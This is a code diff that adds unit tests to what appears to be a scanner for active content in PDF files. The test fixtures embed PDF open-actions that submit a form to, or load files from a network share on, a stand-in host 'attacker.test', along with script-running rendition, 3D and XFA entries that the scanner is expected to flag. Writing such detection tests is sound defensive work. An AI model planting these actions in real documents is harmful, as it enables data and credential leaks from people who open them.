@@ -38,6 +38,26 @@ it('finds a file that is attached to a page in a stream without a type', async (
   expect(await outcomeOf(`${attachment}\n${file}`)).toEqual(['FileAttachment']);
 });
 
+it.each([
+  ['sends a form', 'SubmitForm', '/AA << /O << /S /SubmitForm /F (http://attacker.test) >> >>'],
+  ['links to a file on a network share', 'GoToR', '/AA << /O << /S /GoToR /F (//attacker.test/x) >> >>'],
+  ['links to a file within a file', 'GoToE', '/OpenAction << /S /GoToE /F (//attacker.test/x) >>'],
+  ['runs the script of a rendition', 'Rendition', '/OpenAction << /S /Rendition /JS (app.alert(1)) >>'],
+  ['runs the script of a 3D model', 'OnInstantiate', '/Type /3D /OnInstantiate 3 0 R'],
+  ['contains an XFA form', 'XFA', '/AcroForm << /Fields [] /XFA 3 0 R >>'],
+])('finds active content that %s', async (_what, name, entries) => {
+  expect(await outcomeOf(`2 0 obj << ${entries} >> endobj`)).toEqual([name]);
+  expect(await outcomeOf(objectStream(`2 0 << ${entries} >>`, flate, deflateSync))).toEqual([name]);
+});
+
+it('accepts web links, links to pages, forms without scripts, and updates that keep the earlier content', async () => {
+  const objects = `2 0 obj << /S /URI /URI (https://academy.test) >> endobj
+    3 0 obj << /S /GoTo /D [0 /Fit] >> endobj
+    4 0 obj << /AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf) >> >> endobj`;
+  expect(await outcomeOf(objects)).toEqual([]);
+  expect(await outcomeOf(`${objects} startxref\n9\n%%EOF\n${objects}`)).toEqual([]);
+});
+
 /** The filter comes before text that looks like the beginning of the object. */
 const filterBefore = (text: string) =>
   objectStream(content, '', deflateSync).replace('/Type', `${flate} /X ${text} /Type`);
